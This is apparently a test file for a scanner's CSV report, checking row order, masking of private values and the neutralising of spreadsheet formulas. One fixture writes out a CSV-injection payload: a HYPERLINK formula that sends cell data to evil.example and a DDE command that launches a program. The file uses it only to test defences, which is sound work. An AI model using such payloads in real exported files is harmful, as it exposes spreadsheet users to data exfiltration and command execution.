"""The table of findings, as a spreadsheet reads it."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

from hypothesis import given
from hypothesis import strategies as st

from scanner.render import render_csv
from scanner.render.csv_report import inert
from tests.render import invented


def rows(reveal: bool = False) -> list[dict[str, str]]:
    text = render_csv(invented.rich(), reveal)
    assert text.startswith("\N{ZERO WIDTH NO-BREAK SPACE}")
    return list(csv.DictReader(io.StringIO(text[1:])))


def test_one_row_a_finding_worst_first_and_masked() -> None:
    found = rows()
    assert [row["id"] for row in found] == [item.finding.id for item in invented.rich().findings]
    assert all(row["severity"] and row["what"] and row["site"] for row in found)
    text = render_csv(invented.rich())
    assert [value for value in (*invented.PRIVATE, invented.STRANGER) if value in text] == []


def test_values_when_asked_but_never_a_strangers() -> None:
    text = render_csv(invented.rich(), reveal=True)
    assert invented.HOME in text
    assert invented.STRANGER not in text


def test_no_cell_of_a_hostile_page_is_a_formula() -> None:
    rich = invented.rich()
    first = rich.findings[0]
    title = invented.text("=HYPERLINK(\"https://evil.example/?\"&A1)\r\n+cmd|' /C calc'!A0")
    hostile = replace(first, finding=replace(first.finding, page_title=title))
    text = render_csv(replace(rich, findings=(hostile, *rich.findings[1:])))
    cells = [cell for row in csv.reader(io.StringIO(text[1:])) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert [cell for cell in cells if cell.lstrip().startswith(("=", "+", "-", "@"))] == []


@given(st.text(st.sampled_from("=+-@\t\r\n '\"a1＝＋"), max_size=6))
def test_whatever_stands_first_is_no_formula(text: str) -> None:
    shown = inert(text)
    assert shown in (text, f"'{text}")
    assert not shown.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
